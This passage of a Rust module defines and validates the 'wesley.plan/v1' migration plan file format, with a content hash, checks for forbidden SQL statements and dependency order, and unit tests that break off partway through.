//! The plan file, format `wesley.plan/v1`: what `wesley plan` writes and `wesley apply`
//! reads. It is its own versioned format, kept apart from the internal [`Plan`]: the types
//! here are plain serde structs converted by hand, and the names of phases, step kinds,
//! lock modes and hazard kinds are stored as strings so that an unknown name is reported
//! with the step it appears in. docs/plan-format.md describes every field.
//!
//! The file is JSON, pretty-printed with two-space indentation and a trailing newline.
//! Object keys appear in the order the structs below declare them, so the same plan always
//! gives the same bytes.
//!
//! # `plan_hash`
//!
//! `plan_hash` is `sha256:` followed by the lowercase hex SHA-256 of the compact JSON
//! (`serde_json::to_string`, keys in declaration order, no whitespace) of
//!
//! ```text
//! {"from":{"schema_hash":..},"to":{"schema_hash":..},"steps":[..],"diagnostics":[..]}
//! ```
//!
//! that is: both schema hashes, every field of every step (id, phase, kind, table,
//! summary, sql, transactional, depends_on, locks, rewrite, scan, hazards, backfill), and
//! the diagnostics (removing an error must not make a plan look applicable). It does not
//! cover `format` (checked separately), `planner_version` (the same plan from another
//! planner build is the same plan), nor `waves`, `critical_path` and `tables`, which are
//! derived from the steps; [`validate`] checks that they agree with them instead.
//!
//! The hash detects edits, not authors: anyone can recompute it. So [`validate`] also
//! refuses content that would be dangerous whoever wrote it, above all psql
//! meta-commands and variable references (see [`psql`]).

pub mod psql;

use crate::diag::{Diagnostic, Severity};
use crate::plan::{HazardKind, LockMode, Phase, Plan, Step, StepKind, TableImpact};
use serde::{Deserialize, Serialize};
use sha2::{Digest, Sha256};
use std::collections::{BTreeMap, BTreeSet};
use std::fmt;

/// The value of `format` this planner writes and reads.
pub const FORMAT: &str = "wesley.plan/v1";

/// A plan file.
#[derive(Debug, Clone, PartialEq, Eq, Serialize, Deserialize)]
#[serde(deny_unknown_fields)]
pub struct PlanFile {
    /// Always [`FORMAT`].
    pub format: String,
    /// The version of the planner that wrote the file.
    pub planner_version: String,
    pub from: SchemaRef,
    pub to: SchemaRef,
    /// See the module documentation.
    pub plan_hash: String,
    /// In execution order.
    pub steps: Vec<PlanStep>,
    pub waves: Vec<Vec<String>>,
    pub critical_path: Vec<String>,
    pub tables: Vec<PlanTable>,
    pub diagnostics: Vec<PlanDiagnostic>,
}

/// A schema identified by its canonical hash (`crate::canon`).
#[derive(Debug, Clone, PartialEq, Eq, Serialize, Deserialize)]
#[serde(deny_unknown_fields)]
pub struct SchemaRef {
    pub schema_hash: String,
    /// The hash of every table's canonical form, by `schema.table`, so that an executor can
    /// tell which tables differ from what the plan expects.
    #[serde(default, skip_serializing_if = "Option::is_none")]
    pub table_hashes: Option<std::collections::BTreeMap<String, String>>,
    /// The canonical form (`crate::canon`) of every enum and of the tables this plan
    /// touches, so that an executor can say in words how they differ from a live database.
    /// Untouched tables are represented by their hashes only, which keeps plan files of
    /// large schemas small.
    #[serde(default, skip_serializing_if = "Option::is_none")]
    pub canonical: Option<crate::canon::CanonSchema>,
}

/// Tables named by any step (its own table or a locked relation).
fn touched_tables(plan: &Plan) -> std::collections::BTreeSet<String> {
    let mut out = std::collections::BTreeSet::new();
    for s in &plan.steps {
        if let Some((schema, table)) = &s.table {
            out.insert(format!("{schema}.{table}"));
        }
        for l in &s.locks {
            out.insert(l.relation.clone());
        }
    }
    out
}

fn schema_ref(
    hash: &str,
    full: &crate::canon::CanonSchema,
    touched: &std::collections::BTreeSet<String>,
) -> SchemaRef {
    SchemaRef {
        schema_hash: hash.to_string(),
        table_hashes: Some(
            full.tables
                .iter()
                .map(|t| (t.name.clone(), t.hash()))
                .collect(),
        ),
        canonical: Some(crate::canon::CanonSchema {
            enums: full.enums.clone(),
            tables: full
                .tables
                .iter()
                .filter(|t| touched.contains(&t.name))
                .cloned()
                .collect(),
        }),
    }
}

#[derive(Debug, Clone, PartialEq, Eq, Serialize, Deserialize)]
#[serde(deny_unknown_fields)]
pub struct PlanStep {
    pub id: String,
    /// [`Phase::as_str`].
    pub phase: String,
    /// [`StepKind::as_str`].
    pub kind: String,
    /// `schema.table`, when the step changes one table.
    pub table: Option<String>,
    pub summary: String,
    /// The statements, each ending with `;` and a newline; no BEGIN/COMMIT/SET.
    pub sql: String,
    /// False for a single statement that cannot run in a transaction block.
    pub transactional: bool,
    /// Ids of earlier steps that must have finished first.
    pub depends_on: Vec<String>,
    pub locks: Vec<PlanLock>,
    pub rewrite: bool,
    pub scan: bool,
    pub hazards: Vec<PlanHazard>,
    pub backfill: Option<PlanBackfill>,
}

#[derive(Debug, Clone, PartialEq, Eq, Serialize, Deserialize)]
#[serde(deny_unknown_fields)]
pub struct PlanLock {
    /// `schema.table`.
    pub relation: String,
    /// [`LockMode::as_str`], e.g. `AccessExclusiveLock`.
    pub mode: String,
    pub blocks_reads: bool,
    pub blocks_writes: bool,
}

#[derive(Debug, Clone, PartialEq, Eq, Serialize, Deserialize)]
#[serde(deny_unknown_fields)]
pub struct PlanHazard {
    /// [`HazardKind::as_str`].
    pub kind: String,
    pub message: String,
}

/// How to split a backfill into short transactions. Schema and table are separate because
/// names may contain dots.
#[derive(Debug, Clone, PartialEq, Eq, Serialize, Deserialize)]
#[serde(deny_unknown_fields)]
pub struct PlanBackfill {
    pub schema: String,
    pub table: String,
    /// Primary-key columns, walked in order.
    pub key: Vec<String>,
    /// The SET list of the UPDATE.
    pub set: String,
    /// Rows that still need the update.
    pub predicate: String,
    pub batch_size: u32,
}

#[derive(Debug, Clone, PartialEq, Eq, Serialize, Deserialize)]
#[serde(deny_unknown_fields)]
pub struct PlanTable {
    /// `schema.table`.
    pub table: String,
    /// [`LockMode::as_str`] of the strongest lock any step takes on it.
    pub strongest_lock: Option<String>,
    pub steps: usize,
    pub rewrite: bool,
    pub scan: bool,
    pub blocks_reads: bool,
    pub blocks_writes: bool,
    /// `instant` or `proportional to table size`.
    pub impact: String,
    pub new_table: bool,
}

#[derive(Debug, Clone, PartialEq, Eq, Serialize, Deserialize)]
#[serde(deny_unknown_fields)]
pub struct PlanDiagnostic {
    pub code: String,
    /// `error` or `warning`.
    pub severity: String,
    pub file: String,
    pub line: usize,
    pub column: usize,
    pub message: String,
    pub help: Option<String>,
}

impl PlanFile {
    /// True when a diagnostic is an error: the plan must not be applied.
    pub fn has_errors(&self) -> bool {
        self.diagnostics.iter().any(PlanDiagnostic::is_error)
    }

    /// Hazards of all steps, in step order.
    pub fn hazards(&self) -> impl Iterator<Item = (&PlanStep, &PlanHazard)> {
        self.steps
            .iter()
            .flat_map(|s| s.hazards.iter().map(move |h| (s, h)))
    }
}

impl PlanStep {
    pub fn phase(&self) -> Option<Phase> {
        Phase::parse(&self.phase)
    }

    pub fn kind(&self) -> Option<StepKind> {
        StepKind::parse(&self.kind)
    }
}

impl PlanLock {
    pub fn mode(&self) -> Option<LockMode> {
        LockMode::parse(&self.mode)
    }
}

impl PlanHazard {
    pub fn kind(&self) -> Option<HazardKind> {
        HazardKind::parse(&self.kind)
    }
}

impl PlanDiagnostic {
    pub fn is_error(&self) -> bool {
        self.severity == "error"
    }
}

/// Converts an internal plan into a plan file, with its `plan_hash`.
pub fn to_plan_file(plan: &Plan) -> PlanFile {
    let touched = touched_tables(plan);
    let mut file = PlanFile {
        format: FORMAT.to_string(),
        planner_version: crate::VERSION.to_string(),
        from: schema_ref(&plan.from_hash, &plan.from, &touched),
        to: schema_ref(&plan.to_hash, &plan.to, &touched),
        plan_hash: String::new(),
        steps: plan.steps.iter().map(step).collect(),
        waves: plan.waves.clone(),
        critical_path: plan.critical_path.clone(),
        tables: plan.tables.iter().map(table).collect(),
        diagnostics: plan.diagnostics.iter().map(diagnostic).collect(),
    };
    file.plan_hash = plan_hash(&file);
    file
}

fn step(s: &Step) -> PlanStep {
    PlanStep {
        id: s.id.clone(),
        phase: s.phase.as_str().to_string(),
        kind: s.kind.as_str().to_string(),
        table: s.table.as_ref().map(|(schema, t)| format!("{schema}.{t}")),
        summary: s.summary.clone(),
        sql: s.sql.clone(),
        transactional: s.transactional,
        depends_on: s.depends_on.clone(),
        locks: s
            .locks
            .iter()
            .map(|l| PlanLock {
                relation: l.relation.clone(),
                mode: l.mode.as_str().to_string(),
                blocks_reads: l.blocks_reads,
                blocks_writes: l.blocks_writes,
            })
            .collect(),
        rewrite: s.rewrite,
        scan: s.scan,
        hazards: s
            .hazards
            .iter()
            .map(|h| PlanHazard {
                kind: h.kind.as_str().to_string(),
                message: h.message.clone(),
            })
            .collect(),
        backfill: s.backfill.as_ref().map(|b| PlanBackfill {
            schema: b.schema.clone(),
            table: b.table.clone(),
            key: b.key.clone(),
            set: b.set.clone(),
            predicate: b.predicate.clone(),
            batch_size: b.batch_size,
        }),
    }
}

fn table(t: &TableImpact) -> PlanTable {
    PlanTable {
        table: t.table.clone(),
        strongest_lock: t.strongest_lock.map(|m| m.as_str().to_string()),
        steps: t.steps,
        rewrite: t.rewrite,
        scan: t.scan,
        blocks_reads: t.blocks_reads,
        blocks_writes: t.blocks_writes,
        impact: t.impact.to_string(),
        new_table: t.new_table,
    }
}

fn diagnostic(d: &Diagnostic) -> PlanDiagnostic {
    PlanDiagnostic {
        code: d.code.to_string(),
        severity: match d.severity {
            Severity::Error => "error",
            Severity::Warning => "warning",
        }
        .to_string(),
        file: d.file.clone(),
        line: d.line,
        column: d.column,
        message: d.message.clone(),
        help: d.help.clone(),
    }
}

/// The part of a plan file `plan_hash` covers, in this order.
#[derive(Serialize)]
struct Hashed<'a> {
    from: &'a SchemaRef,
    to: &'a SchemaRef,
    steps: &'a [PlanStep],
    diagnostics: &'a [PlanDiagnostic],
}

/// Computes the `plan_hash` of a plan file's content (ignoring its current `plan_hash`).
pub fn plan_hash(file: &PlanFile) -> String {
    let hashed = Hashed {
        from: &file.from,
        to: &file.to,
        steps: &file.steps,
        diagnostics: &file.diagnostics,
    };
    let json = serde_json::to_string(&hashed).unwrap_or_default();
    format!("sha256:{}", hex::encode(Sha256::digest(json.as_bytes())))
}

/// The plan file as JSON text: pretty-printed, two-space indentation, trailing newline.
pub fn to_json(file: &PlanFile) -> String {
    let mut text = serde_json::to_string_pretty(file).unwrap_or_default();
    text.push('\n');
    text
}

/// Why a plan file was refused.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct PlanFileError {
    pub kind: ErrorKind,
    /// The step the problem is in, if it is in one.
    pub step: Option<String>,
    pub message: String,
}

#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum ErrorKind {
    /// Not JSON, or not shaped like a plan file.
    Syntax,
    /// `format` is missing or names another version.
    Format,
    /// `plan_hash` does not match the content: the file was edited after it was written.
    Modified,
    /// A field does not have the required shape (empty or duplicate ids, malformed hashes,
    /// control characters, empty SQL, a zero batch size, ...).
    Invalid,
    /// An unknown phase, step kind, lock mode, hazard kind or severity.
    UnknownName,
    /// A dependency on an unknown or later step, or a dependency cycle.
    Dependency,
    /// SQL that must not be run: psql meta-commands or variables, unterminated text,
    /// several statements where one is required, statements that change the transaction
    /// or session around the step, `;` or comments in backfill fragments.
    UnsafeSql,
    /// `waves`, `critical_path` or `tables` disagree with the steps.
    Inconsistent,
}

impl fmt::Display for PlanFileError {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        match &self.step {
            Some(id) => write!(f, "step `{id}`: {}", self.message),
            None => f.write_str(&self.message),
        }
    }
}

impl std::error::Error for PlanFileError {}

/// Reads a plan file from untrusted text: parses the JSON and runs [`validate`]. A file
/// that comes back `Ok` is safe to render and to hand to the executor.
pub fn parse(text: &str) -> Result<PlanFile, Vec<PlanFileError>> {
    let syntax = |message: String| {
        vec![PlanFileError {
            kind: ErrorKind::Syntax,
            step: None,
            message,
        }]
    };
    let value: serde_json::Value = serde_json::from_str(text)
        .map_err(|e| syntax(format!("not a plan file: invalid JSON: {e}")))?;
    let Some(object) = value.as_object() else {
        return Err(syntax("not a plan file: expected a JSON object".into()));
    };
    match object.get("format") {
        None => {
            return Err(vec![PlanFileError {
                kind: ErrorKind::Format,
                step: None,
                message: format!("not a plan file: there is no `format` field (expected \"{FORMAT}\")"),
            }])
        }
        Some(f) if f.as_str() != Some(FORMAT) => {
            return Err(vec![PlanFileError {
                kind: ErrorKind::Format,
                step: None,
                message: format!(
                    "unsupported plan format {f}: this wesley reads \"{FORMAT}\"; plan again with this version of wesley"
                ),
            }])
        }
        Some(_) => {}
    }
    let file: PlanFile = serde_json::from_value(value)
        .map_err(|e| syntax(format!("not a valid {FORMAT} plan file: {e}")))?;
    let errors = validate(&file);
    if errors.is_empty() {
        Ok(file)
    } else {
        Err(errors)
    }
}

/// Statements a step may not contain at its top level: they would end or change the
/// transaction the step runs in, change the session's settings (timeouts) for the steps
/// after it, or make psql read the rest of the script as data.
const FORBIDDEN_STATEMENTS: &[&str] = &[
    "abort",
    "begin",
    "commit",
    "copy",
    "discard",
    "end",
    "prepare",
    "release",
    "reset",
    "rollback",
    "savepoint",
    "set",
    "start",
];

struct Checker<'a> {
    file: &'a PlanFile,
    errors: Vec<PlanFileError>,
}

impl Checker<'_> {
    fn push(&mut self, kind: ErrorKind, step: Option<&str>, message: String) {
        self.errors.push(PlanFileError {
            kind,
            step: step.map(str::to_string),
            message,
        });
    }

    /// Refuses control characters in text shown to people (they could rewrite a
    /// terminal or end a comment in a rendered script).
    fn printable(&mut self, step: Option<&str>, field: &str, text: &str) {
        if let Some(c) = text.chars().find(|c| c.is_control()) {
            self.push(
                ErrorKind::Invalid,
                step,
                format!("{field} contains the control character {c:?}"),
            );
        }
    }

    fn sql(&mut self, id: &str, field: &str, text: &str, fragment: bool) -> Option<psql::Scan> {
        let result = if fragment {
            psql::scan_fragment(text).map(|()| psql::Scan::default())
        } else {
            psql::scan_script(text)
        };
        match result {
            Ok(scan) => Some(scan),
            Err(e) => {
                let (line, column) = line_col(text, e.offset);
                self.push(
                    ErrorKind::UnsafeSql,
                    Some(id),
                    format!("{field}, line {line}, column {column}: {}", e.message),
                );
                None
            }
        }
    }
}

fn line_col(text: &str, offset: usize) -> (usize, usize) {
    let before = &text[..offset.min(text.len())];
    let line = before.matches('\n').count() + 1;
    let column = before.rsplit('\n').next().unwrap_or("").chars().count() + 1;
    (line, column)
}

fn is_hash(s: &str) -> bool {
    s.strip_prefix("sha256:").is_some_and(|h| {
        h.len() == 64
            && h.bytes()
                .all(|b| b.is_ascii_digit() || (b'a'..=b'f').contains(&b))
    })
}

/// Checks a plan file read from an untrusted place. Returns every problem found (empty
/// when the file may be rendered and applied); see [`ErrorKind`] for what is checked.
pub fn validate(file: &PlanFile) -> Vec<PlanFileError> {
    let mut cx = Checker {
        file,
        errors: Vec::new(),
    };
    if file.format != FORMAT {
        cx.push(
            ErrorKind::Format,
            None,
            format!(
                "unsupported plan format \"{}\": this wesley reads \"{FORMAT}\"",
                file.format
            ),
        );
    }
    for (field, hash) in [
        ("from.schema_hash", &file.from.schema_hash),
        ("to.schema_hash", &file.to.schema_hash),
        ("plan_hash", &file.plan_hash),
    ] {
        if !is_hash(hash) {
            cx.push(
                ErrorKind::Invalid,
                None,
                format!("{field} is not of the form sha256:<64 lowercase hex digits>"),
            );
        }
    }
    for (field, r) in [("from", &file.from), ("to", &file.to)] {
        if let (Some(c), Some(hashes)) = (&r.canonical, &r.table_hashes) {
            for t in &c.tables {
                if hashes.get(&t.name) != Some(&t.hash()) {
                    cx.push(
                        ErrorKind::Invalid,
                        None,
                        format!(
                            "{field}.canonical table {} does not match {field}.table_hashes",
                            t.name
                        ),
                    );
                }
            }
        }
    }
    if is_hash(&file.plan_hash) && plan_hash(file) != file.plan_hash {
        cx.push(
            ErrorKind::Modified,
            None,
            "the plan was modified after it was written: plan_hash does not match its content; \
             run `wesley plan` again instead of editing the file"
                .into(),
        );
    }
    if file.planner_version.is_empty() {
        cx.push(ErrorKind::Invalid, None, "planner_version is empty".into());
    }
    cx.printable(None, "planner_version", &file.planner_version);
    check_steps(&mut cx);
    check_derived(&mut cx);
    for d in &file.diagnostics {
        if !matches!(d.severity.as_str(), "error" | "warning") {
            cx.push(
                ErrorKind::UnknownName,
                None,
                format!(
                    "diagnostic {} has unknown severity \"{}\" (expected error or warning)",
                    d.code, d.severity
                ),
            );
        }
    }
    cx.errors
}

fn check_steps(cx: &mut Checker<'_>) {
    let file = cx.file;
    let mut position: BTreeMap<&str, usize> = BTreeMap::new();
    for (i, s) in file.steps.iter().enumerate() {
        if s.id.trim().is_empty() {
            cx.push(
                ErrorKind::Invalid,
                None,
                format!("step {} has an empty id", i + 1),
            );
        } else if position.insert(&s.id, i).is_some() {
            cx.push(
                ErrorKind::Invalid,
                Some(&s.id),
                "the id is used by more than one step".into(),
            );
        }
    }
    for (i, s) in file.steps.iter().enumerate() {
        let id = s.id.as_str();
        cx.printable(Some(id), "id", id);
        cx.printable(Some(id), "summary", &s.summary);
        if let Some(t) = &s.table {
            cx.printable(Some(id), "table", t);
        }
        if s.phase().is_none() {
            cx.push(
                ErrorKind::UnknownName,
                Some(id),
                format!(
                    "unknown phase \"{}\" (expected one of: {})",
                    s.phase,
                    names(Phase::ALL.iter().map(|p| p.as_str()))
                ),
            );
        }
        if s.kind().is_none() {
            cx.push(
                ErrorKind::UnknownName,
                Some(id),
                format!("unknown step kind \"{}\"", s.kind),
            );
        }
        for l in &s.locks {
            cx.printable(Some(id), "lock relation", &l.relation);
            match l.mode() {
                None => cx.push(
                    ErrorKind::UnknownName,
                    Some(id),
                    format!(
                        "unknown lock mode \"{}\" (expected one of: {})",
                        l.mode,
                        names(LockMode::ALL.iter().map(|m| m.as_str()))
                    ),
                ),
                Some(m)
                    if m.blocks_reads() != l.blocks_reads
                        || m.blocks_writes() != l.blocks_writes =>
                {
                    cx.push(
                        ErrorKind::Inconsistent,
                        Some(id),
                        format!(
                            "lock on {} says blocks_reads={} blocks_writes={}, but {} blocks {}",
                            l.relation,
                            l.blocks_reads,
                            l.blocks_writes,
                            l.mode,
                            match (m.blocks_reads(), m.blocks_writes()) {
                                (true, _) => "reads and writes",
                                (false, true) => "writes only",
                                (false, false) => "neither reads nor writes",
                            }
                        ),
                    )
                }
                Some(_) => {}
            }
        }
        for h in &s.hazards {
            cx.printable(Some(id), "hazard message", &h.message);
            if h.kind().is_none() {
                cx.push(
                    ErrorKind::UnknownName,
                    Some(id),
                    format!(
                        "unknown hazard kind \"{}\" (expected one of: {})",
                        h.kind,
                        names(HazardKind::ALL.iter().map(|h| h.as_str()))
                    ),
                );
            }
        }
        check_sql(cx, s);
        for d in &s.depends_on {
            match position.get(d.as_str()) {
                None => cx.push(
                    ErrorKind::Dependency,
                    Some(id),
                    format!("depends on `{d}`, which is not a step of this plan"),
                ),
                Some(&j) if j == i => cx.push(
                    ErrorKind::Dependency,
                    Some(id),
                    "depends on itself (a dependency cycle)".into(),
                ),
                Some(&j) if j > i => match cycle(file, &position, j, i) {
                    Some(path) => cx.push(
                        ErrorKind::Dependency,
                        Some(id),
                        format!("dependency cycle: {}", path.join(" -> ")),
                    ),
                    None => cx.push(
                        ErrorKind::Dependency,
                        Some(id),
                        format!(
                            "depends on `{d}`, which comes later in the plan; steps must be listed in execution order"
                        ),
                    ),
                },
                Some(_) => {}
            }
        }
    }
}

/// A dependency path from step `from` back to step `to` (which depends on `from`), if any.
fn cycle(
    file: &PlanFile,
    position: &BTreeMap<&str, usize>,
    from: usize,
    to: usize,
) -> Option<Vec<String>> {
    // Depth-first search over depends_on, remembering how each step was reached.
    let mut came_from: BTreeMap<usize, usize> = BTreeMap::new();
    let mut stack = vec![from];
    let mut seen = BTreeSet::from([from]);
    while let Some(i) = stack.pop() {
        for d in &file.steps[i].depends_on {
            let Some(&j) = position.get(d.as_str()) else {
                continue;
            };
            if seen.insert(j) {
                came_from.insert(j, i);
                stack.push(j);
            }
            if j == to {
                // to -> from -> ... -> to, written in the direction of depends_on.
                let mut path = vec![file.steps[to].id.clone()];
                let mut chain = vec![j];
                let mut k = i;
                chain.push(k);
                while k != from {
                    k = came_from[&k];
                    chain.push(k);
                }
                chain.reverse();
                path.extend(chain.iter().map(|&k| file.steps[k].id.clone()));
                path.dedup();
                return Some(path);
            }
        }
    }
    None
}

fn check_sql(cx: &mut Checker<'_>, s: &PlanStep) {
    let id = s.id.as_str();
    if s.sql.trim().is_empty() {
        cx.push(ErrorKind::Invalid, Some(id), "sql is empty".into());
    } else if let Some(scan) = cx.sql(id, "sql", &s.sql, false) {
        for word in &scan.statements {
            if FORBIDDEN_STATEMENTS.contains(&word.as_str()) {
                cx.push(
                    ErrorKind::UnsafeSql,
                    Some(id),
                    format!(
                        "sql contains a {} statement; steps may not control transactions, change session settings or copy data",
                        word.to_uppercase()
                    ),
                );
            }
        }
        if !scan.terminated {
            cx.push(
                ErrorKind::Invalid,
                Some(id),
                "sql does not end its last statement with `;`".into(),
            );
        }
        if !s.transactional && scan.statements.len() > 1 {
            cx.push(
                ErrorKind::UnsafeSql,
                Some(id),
                format!(
                    "a step that runs outside a transaction must hold exactly one statement, not {}: a failure halfway would leave the others applied",
                    scan.statements.len()
                ),
            );
        }
    }
    if let Some(b) = &s.backfill {
        for (field, text) in [("backfill.schema", &b.schema), ("backfill.table", &b.table)] {
            if text.is_empty() {
                cx.push(ErrorKind::Invalid, Some(id), format!("{field} is empty"));
            }
            cx.printable(Some(id), field, text);
        }
        if b.key.is_empty() {
            cx.push(
                ErrorKind::Invalid,
                Some(id),
                "backfill.key is empty: a backfill walks the table by its primary key".into(),
            );
        }
        for k in &b.key {
            if k.is_empty() {
                cx.push(
                    ErrorKind::Invalid,
                    Some(id),
                    "backfill.key has an empty column name".into(),
                );
            }
            cx.printable(Some(id), "backfill.key", k);
        }
        if b.batch_size == 0 {
            cx.push(
                ErrorKind::Invalid,
                Some(id),
                "backfill.batch_size is 0".into(),
            );
        }
        for (field, text) in [
            ("backfill.set", &b.set),
            ("backfill.predicate", &b.predicate),
        ] {
            if text.trim().is_empty() {
                cx.push(ErrorKind::Invalid, Some(id), format!("{field} is empty"));
            } else {
                cx.sql(id, field, text, true);
            }
        }
    }
}

/// Checks that waves, critical path and per-table summaries agree with the steps.
fn check_derived(cx: &mut Checker<'_>) {
    let file = cx.file;
    let steps: BTreeMap<&str, &PlanStep> = file.steps.iter().map(|s| (s.id.as_str(), s)).collect();
    let mut wave_of: BTreeMap<&str, usize> = BTreeMap::new();
    for (w, wave) in file.waves.iter().enumerate() {
        for id in wave {
            if !steps.contains_key(id.as_str()) {
                cx.push(
                    ErrorKind::Inconsistent,
                    None,
                    format!("waves name `{id}`, which is not a step of this plan"),
                );
            } else if wave_of.insert(id, w).is_some() {
                cx.push(
                    ErrorKind::Inconsistent,
                    Some(id),
                    "the step appears in more than one wave".into(),
                );
            }
        }
    }
    for s in &file.steps {
        let Some(&w) = wave_of.get(s.id.as_str()) else {
            cx.push(
                ErrorKind::Inconsistent,
                Some(&s.id),
                "the step is in no wave".into(),
            );
            continue;
        };
        for d in &s.depends_on {
            if wave_of.get(d.as_str()).is_some_and(|&dw| dw >= w) {
                cx.push(
                    ErrorKind::Inconsistent,
                    Some(&s.id),
                    format!(
                        "it is in wave {} but depends on `{d}` from the same or a later wave",
                        w + 1
                    ),
                );
            }
        }
    }
    for (k, id) in file.critical_path.iter().enumerate() {
        match steps.get(id.as_str()) {
            None => cx.push(
                ErrorKind::Inconsistent,
                None,
                format!("critical_path names `{id}`, which is not a step of this plan"),
            ),
            Some(s) => {
                if let Some(prev) = k.checked_sub(1).map(|p| &file.critical_path[p]) {
                    if !s.depends_on.contains(prev) {
                        cx.push(
                            ErrorKind::Inconsistent,
                            Some(id),
                            format!(
                                "critical_path puts it after `{prev}`, which it does not depend on"
                            ),
                        );
                    }
                }
            }
        }
    }
    let expected = table_summaries(&file.steps);
    let listed: BTreeSet<&str> = file.tables.iter().map(|t| t.table.as_str()).collect();
    for rel in expected.keys() {
        if !listed.contains(rel.as_str()) {
            cx.push(
                ErrorKind::Inconsistent,
                None,
                format!("tables has no entry for {rel}, which steps change or lock"),
            );
        }
    }
    let mut seen = BTreeSet::new();
    for t in &file.tables {
        cx.printable(None, "tables.table", &t.table);
        if !seen.insert(t.table.as_str()) {
            cx.push(
                ErrorKind::Inconsistent,
                None,
                format!("tables lists {} more than once", t.table),
            );
            continue;
        }
        let Some(e) = expected.get(&t.table) else {
            cx.push(
                ErrorKind::Inconsistent,
                None,
                format!("tables lists {}, which no step changes or locks", t.table),
            );
            continue;
        };
        let mut wrong = Vec::new();
        if t.strongest_lock.as_deref() != e.strongest_lock.map(LockMode::as_str) {
            wrong.push("strongest_lock");
        }
        if t.steps != e.steps {
            wrong.push("steps");
        }
        if t.rewrite != e.rewrite {
            wrong.push("rewrite");
        }
        if t.scan != e.scan {
            wrong.push("scan");
        }
        if t.blocks_reads != e.blocks_reads {
            wrong.push("blocks_reads");
        }
        if t.blocks_writes != e.blocks_writes {
            wrong.push("blocks_writes");
        }
        let impact = if (e.rewrite || e.scan) && !t.new_table {
            "proportional to table size"
        } else {
            "instant"
        };
        if t.impact != impact {
            wrong.push("impact");
        }
        if !wrong.is_empty() {
            cx.push(
                ErrorKind::Inconsistent,
                None,
                format!(
                    "tables entry for {} does not match its steps ({})",
                    t.table,
                    wrong.join(", ")
                ),
            );
        }
    }
}

/// Per-table facts derived from the steps (everything in [`PlanTable`] but `new_table`
/// and `impact`, which need the old schema). Mirrors `plan::locks::table_impacts`.
struct Derived {
    strongest_lock: Option<LockMode>,
    steps: usize,
    rewrite: bool,
    scan: bool,
    blocks_reads: bool,
    blocks_writes: bool,
}

fn table_summaries(steps: &[PlanStep]) -> BTreeMap<String, Derived> {
    let mut map: BTreeMap<String, Derived> = BTreeMap::new();
    for s in steps {
        let mut touched: Vec<&str> = s.locks.iter().map(|l| l.relation.as_str()).collect();
        touched.extend(s.table.as_deref());
        touched.sort_unstable();
        touched.dedup();
        for rel in touched {
            let e = map.entry(rel.to_string()).or_insert(Derived {
                strongest_lock: None,
                steps: 0,
                rewrite: false,
                scan: false,
                blocks_reads: false,
                blocks_writes: false,
            });
            e.steps += 1;
            for l in s.locks.iter().filter(|l| l.relation == rel) {
                e.strongest_lock = e.strongest_lock.max(l.mode());
                e.blocks_reads |= l.blocks_reads;
                e.blocks_writes |= l.blocks_writes;
            }
            if s.table.as_deref() == Some(rel) {
                e.rewrite |= s.rewrite;
                e.scan |= s.scan || s.backfill.is_some();
            }
        }
    }
    map
}

fn names<'a>(list: impl Iterator<Item = &'a str>) -> String {
    list.collect::<Vec<_>>().join(", ")
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::{plan, sdl};

    fn schema(src: &str) -> crate::Schema {
        let (s, d) = sdl::parse("test.graphql", src);
        s.unwrap_or_else(|| panic!("{d:#?}"))
    }

    const OLD: &str = r#"
type User @wes_table {
  id: ID! @wes_pk
  name: String!
  legacy: String
}
"#;

    const NEW: &str = r#"
type User @wes_table {
  id: ID! @wes_pk
  name: String!
  nick: String @wes_index
  price: BigInt
}
"#;

    fn sample() -> PlanFile {
        to_plan_file(&plan::plan(&schema(OLD), &schema(NEW)))
    }

    fn kinds(file: &PlanFile) -> Vec<ErrorKind> {
        validate(file).into_iter().map(|e| e.kind).collect()
    }

    /// Applies `edit`, recomputes the hash (so only the content check can refuse it) and
    /// returns the errors.
    fn edited(edit: impl FnOnce(&mut PlanFile)) -> Vec<PlanFileError> {
        let mut f = sample();
        edit(&mut f);
        f.plan_hash = plan_hash(&f);
        validate(&f)
    }

    fn has(errors: Vec<PlanFileError>, kind: ErrorKind, needle: &str) {
        assert!(
            errors
                .iter()
                .any(|e| e.kind == kind && e.to_string().contains(needle)),
            "expected {kind:?} containing {needle:?}, got {errors:#?}"
        );
    }

    fn only(errors: Vec<PlanFileError>, kind: ErrorKind, needle: &str) {
        assert!(
            errors
                .iter()
                .any(|e| e.kind == kind && e.to_string().contains(needle)),
            "expected {kind:?} containing {needle:?}, got {errors:#?}"
        );
        assert!(errors.iter().all(|e| e.kind == kind), "{errors:#?}");
    }

    #[test]
    fn sample_is_valid_and_round_trips() {
        let f = sample();
        assert!(f.steps.len() >= 3, "{f:#?}");
        assert_eq!(validate(&f), vec![]);
        let text = to_json(&f);
        assert!(text.ends_with("}\n"));
        assert!(text.starts_with("{\n  \"format\": \"wesley.plan/v1\",\n  \"planner_version\""));
        let back = parse(&text).unwrap();
        assert_eq!(back, f);
        assert_eq!(to_json(&back), text);
    }

    #[test]
    fn same_inputs_same_bytes() {
        assert_eq!(to_json(&sample()), to_json(&sample()));
    }

    #[test]
    fn every_golden_plan_is_valid() {
        let root = std::path::Path::new(env!("CARGO_MANIFEST_DIR")).join("tests/data");
        let mut dirs: Vec<_> = ["plan", "plan_err"]
            .iter()
            .flat_map(|k| std::fs::read_dir(root.join(k)).unwrap())
            .map(|e| e.unwrap().path())
            .filter(|p| p.is_dir())
            .collect();
        dirs.sort();
        assert!(!dirs.is_empty());
        for dir in dirs {
            let load = |n: &str| schema(&std::fs::read_to_string(dir.join(n)).unwrap_or_default());
            let f = to_plan_file(&plan::plan(&load("old.graphql"), &load("new.graphql")));
            assert_eq!(validate(&f), vec![], "{}", dir.display());
            assert_eq!(parse(&to_json(&f)).as_ref(), Ok(&f), "{}", dir.display());
        }
    }

    #[test]
    fn tampered_sql_is_a_modified_plan() {
        let mut f = sample();
        let s = &mut f.steps[0].sql;
        *s = s.replacen("ADD", "ADd", 1);
        let errors = validate(&f);
        assert_eq!(kinds(&f), vec![ErrorKind::Modified]);
        assert!(errors[0].message.contains("modified"), "{errors:#?}");
        let text = to_json(&sample()).replacen("ADD COLUMN", "ADD COLUMn", 1);
        assert_eq!(
            parse(&text)
                .unwrap_err()
                .into_iter()
                .map(|e| e.kind)
                .collect::<Vec<_>>(),
            vec![ErrorKind::Modified]
        );
    }

    #[test]
    fn removed_diagnostic_is_a_modified_plan() {
        let mut f = sample();
